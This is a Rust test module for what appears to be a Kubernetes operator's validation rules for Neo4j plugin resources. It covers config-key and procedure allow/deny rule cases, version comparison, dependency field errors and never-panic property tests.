            hit("plugin-config-server-key", json!({"config": {"server.jvm.additional": "-Xss2m"}})),
            miss("plugin-config-server-key", json!({"config": {"dbms.security.procedures.unrestricted": "apoc.*", "dbms.bloom.license_file": "/l", "gds.enterprise.license_file": "/g"}})),
            hit("plugin-allowlist-narrows", json!({"security": {"allowedProcedures": ["apoc.*", "apoc.load.*"]}})).warning(),
            miss("plugin-allowlist-narrows", json!({"security": {"deniedProcedures": ["apoc.load.*"]}})),
            hit("cross-check-skipped", json!({})).warning().via(CrossBlind),
            miss("cross-check-skipped", json!({"clusterRef": null})).via(CrossBlind),
        ]
    }

    #[test]
    fn minimal_plugin_is_clean() {
        let p = build(&KIND, &json!({}), None);
        assert_eq!(create(&p), Verdict::default());
        assert_eq!(cross(&p, NAMESPACE, &inventory()), Verdict::default());
        assert_eq!(
            p.spec.install_mode.as_deref(),
            Some("Managed"),
            "defaults ran"
        );
    }

    #[test]
    fn denied_procedures_are_stored_but_not_rendered_and_say_so() {
        let fields = |spec: serde_json::Value| -> Vec<String> {
            create(&build(&KIND, &spec, None))
                .warnings
                .into_iter()
                .filter(|f| f.rule == "field-not-implemented")
                .map(|f| f.field)
                .collect()
        };
        assert_eq!(
            fields(json!({"security": {"deniedProcedures": ["apoc.load.*"]}})),
            ["spec.security.deniedProcedures"]
        );
        assert!(fields(json!({"security": {"deniedProcedures": []}})).is_empty());
    }

    #[test]
    fn plugin_rule_table() {
        run(&KIND, &cases());
    }

    #[test]
    fn loose_version_comparison_matches_the_reference() {
        use std::cmp::Ordering::*;
        for (a, b, want) in [
            ("5.26.0", "5.26.0", Equal),
            ("5.26", "5.26.0", Equal),
            ("2025.01.0", "5.26.0", Greater),
            ("2.10.0", "2.9.0", Greater),
            ("v2.8.9-rc1", "2.9.0", Less),
            ("x.y", "0.0", Equal),
            ("99999999999999999999999.0", "1.0", Less),
        ] {
            assert_eq!(compare_versions(a, b), want, "{a} vs {b}");
        }
    }

    #[test]
    fn dependency_findings_name_the_item() {
        let p = build(
            &KIND,
            &json!({"dependencies": [{"name": "apoc"}, {"name": "", "versionConstraint": "x"}]}),
            None,
        );
        let fields: Vec<String> = create(&p).errors.into_iter().map(|f| f.field).collect();
        assert_eq!(
            fields,
            vec![
                "spec.dependencies[1].name",
                "spec.dependencies[1].versionConstraint"
            ]
        );
    }

    fn rich() -> Value {
        manifest(
            "Neo4jPlugin",
            "custom",
            json!({
                "clusterRef": "graph", "name": "my-plugin", "version": "1.2.3", "enabled": false, "installMode": "VerifiedDownload",
                "source": {"type": "url", "url": "https://example.com/my-plugin-1.2.3.jar", "checksum": SHA256, "authSecret": "dl",
                    "registry": {"url": "https://registry.example.com", "authSecret": "reg", "tls": {"insecureSkipVerify": false, "caSecret": "ca"}}},
                "config": {"apoc.export.file.enabled": "true"},
                "dependencies": [{"name": "apoc", "versionConstraint": ">=5.0", "optional": false}],
                "security": {"allowedProcedures": ["apoc.*"], "deniedProcedures": ["apoc.load.*"], "sandbox": false, "securityPolicy": "strict"},
                "resources": {"memoryLimit": "1Gi", "cpuLimit": "500m", "threadPoolSize": 4}
            }),
        )
    }

    testkit::never_panic!(
        KIND,
        plugin_rules_never_panic_on_mutated_specs(rich()),
        plugin_rules_never_panic_on_arbitrary_specs(base()),
    );

    proptest::proptest! {
        #[test]
        fn url_and_version_helpers_never_panic(a in nasty_string(), b in nasty_string()) {
            let _ = https_url_problem(&a, true);
            let _ = compare_versions(&a, &b);
            let _ = version_constraint_ok(&a);
        }
    }
}
